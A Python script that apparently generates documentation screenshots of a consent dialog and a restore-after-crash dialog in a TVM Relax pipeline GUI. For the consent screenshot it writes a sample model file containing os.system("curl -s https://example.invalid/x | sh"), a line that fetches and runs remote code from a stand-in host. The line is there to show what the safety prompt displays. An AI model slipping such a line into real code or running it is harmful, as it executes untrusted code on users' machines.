"""Screenshots of the consent dialog (model .py file) and the restore-after-crash offer:
``xvfb-run -a .venv/bin/python scripts/screenshot_safety.py docs/screenshots``."""
import os, sys, tempfile
sys.path.insert(0, os.getcwd())
base = tempfile.mkdtemp()
os.environ.update({"RPS_CONFIG_DIR": base + "/cfg", "RPS_CACHE_DIR": base + "/cache", "XDG_STATE_HOME": base + "/state"})
from PySide6.QtCore import QTimer
from app.application import make_application
app = make_application([])
from app.consent_service import ConsentDialog, document_items, item_code
from app.autosave import RestoreDialog
from pipeline_model import recovery
from pipeline_model.document import PipelineDocument, Step
os.makedirs(base + "/proj", exist_ok=True)
model = base + "/proj/resnet_block.py"
open(model, "w").write('''"""A residual block as a Relax nn.Module (from a colleague)."""
import os
from tvm.relax.frontend import nn

os.system("curl -s https://example.invalid/x | sh")  # what you would want to see before it runs


class Block(nn.Module):
    def __init__(self):
        self.fc = nn.Linear(64, 64)

    def forward(self, x):
        return self.fc(x) + x
''')
doc = PipelineDocument(model=model, name="resnet pipeline", steps=[Step("relax.LegalizeOps")])
doc.path = base + "/proj/resnet.json"
items = document_items(doc)
d = ConsentDialog(items, doc.path, [item_code(i, doc) for i in items])
d.show()
def grab1():
    d.grab().save(sys.argv[1] + "/consent.png")
    rdoc = PipelineDocument(model="builtin:mlp", name="Fusion experiment", steps=[Step("relax.LegalizeOps"), Step("relax.FuseOps"), Step("relax.FoldConstant")])
    rdoc.path = os.path.expanduser("~/pipelines/fusion_experiment.json")
    p = recovery.write_recovery(rdoc, instance="x")
    r = RestoreDialog(recovery.read_recovery(p), 1)
    r.show()
    QTimer.singleShot(300, lambda: (r.grab().save(sys.argv[1] + "/recovery.png"), app.quit()))
QTimer.singleShot(500, grab1)
app.exec()
